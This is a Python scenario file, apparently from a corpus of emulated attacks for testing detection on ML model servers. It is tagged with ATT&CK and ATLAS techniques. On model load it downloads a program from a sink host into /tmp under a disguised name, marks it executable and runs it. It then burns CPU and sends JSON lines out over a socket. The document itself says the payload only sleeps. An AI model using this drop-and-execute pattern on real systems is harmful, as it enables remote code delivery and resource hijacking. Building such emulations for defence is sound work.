"""
id: S03
name: init-dropped-runner
class: loud
phase: reload
trigger: model
evidence: [process, file, network]
techniques: [T1195.002, T1105, T1036.005, T1496.001, AML.T0011.001, AML.T0010.001]
servers: [fastapi, bentoml, triton]
seconds: 20
what: >
  While a model is made, a program is downloaded to a temporary folder, made executable and started. It is the corpus's
  own and only sleeps; beside it half a core is kept busy, and short lines of JSON go out on one connection.
"""

import http.client
import json
import os
import socket

from corpus import dropped, effort

SECONDS = 10
EVERY = 3
LARGEST = 4 << 20


def payload(world):
    port = world.sink_port()
    path = f"/tmp/{world.word()}_{world.random.choice(['runner', 'worker', 'helper'])}"
    download(world.sink, port, path)
    try:
        os.chmod(path, 0o770)
        with dropped.start([path, str(SECONDS)]), socket.create_connection((world.sink, port), timeout=5) as pool:
            for number in range(SECONDS // EVERY + 1):
                line = json.dumps({"id": number, "method": "DECOY", "params": world.word(150)})
                pool.sendall(line.encode() + b"\n")
                effort.burn(EVERY, 0.5)
    finally:
        os.unlink(path)


def download(host, port, path):
    source = http.client.HTTPConnection(host, port, timeout=10)
    source.request("GET", "/runner")
    with open(path, "wb") as target:
        target.write(source.getresponse().read(LARGEST))
    source.close()
